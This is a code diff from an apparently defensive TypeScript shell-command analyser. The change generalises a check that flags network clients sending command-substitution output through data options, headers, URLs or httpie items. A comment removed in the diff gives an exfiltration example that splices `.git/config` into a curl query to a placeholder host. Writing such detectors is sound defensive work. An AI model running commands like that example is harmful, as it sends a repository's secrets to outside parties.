@@ -55,17 +55,31 @@ const SUBSTITUTION = /\$\(|`/;
 
 /** Whether a network client sends a command substitution's output as its request data. */
 export function sendsSubstitution(cmd: SimpleCommand): boolean {
+  return sendsMatching(cmd, SUBSTITUTION);
+}
+
+/**
+ * Whether a network client sends a word holding `pattern` as request data: a data, header or form option's value,
+ * an httpie item, a `--url`, and with `spliced` a URL operand whose text before the match passes it. Substitutions
+ * in URL operands are judged for any program by splicedUrlHost (docs/adr/0808).
+ */
+export function sendsMatching(cmd: SimpleCommand, pattern: RegExp, spliced?: (before: string) => boolean): boolean {
   if (!cmd.dynamicArgs) return false;
   const program = programKnowledge(cmd.program);
   if (program === undefined) return false;
   const w = commandWords(cmd, program);
   const options = ownEntry(DATA_OPTIONS, cmd.program);
-  // A URL carries what is spliced into it as much as a body does: `curl "https://h/?q=$(cat .git/config)"`.
+  // A URL carries what is spliced into it as much as a body does: `curl "https://h/?q=$l"`.
+  const splice = (v: string): boolean => pattern.test(v) && (spliced?.(v.split(pattern)[0]!) ?? true);
   if (options !== undefined)
-    return [...options, "--url"].some((o) => (w.options.get(o) ?? []).some((v) => SUBSTITUTION.test(v)));
+    return (
+      options.some((o) => (w.options.get(o) ?? []).some((v) => pattern.test(v))) ||
+      (w.options.get("--url") ?? []).some(splice) ||
+      (spliced !== undefined && w.positionals.some(splice))
+    );
   if (!ITEM_CLIENTS.has(cmd.program)) return false;
   const start = METHOD.test(w.positionals[0] ?? "") ? 2 : 1;
-  return w.positionals.slice(start).some((v) => SUBSTITUTION.test(v));
+  return w.positionals.slice(start).some((v) => pattern.test(v));
 }
 
 /**
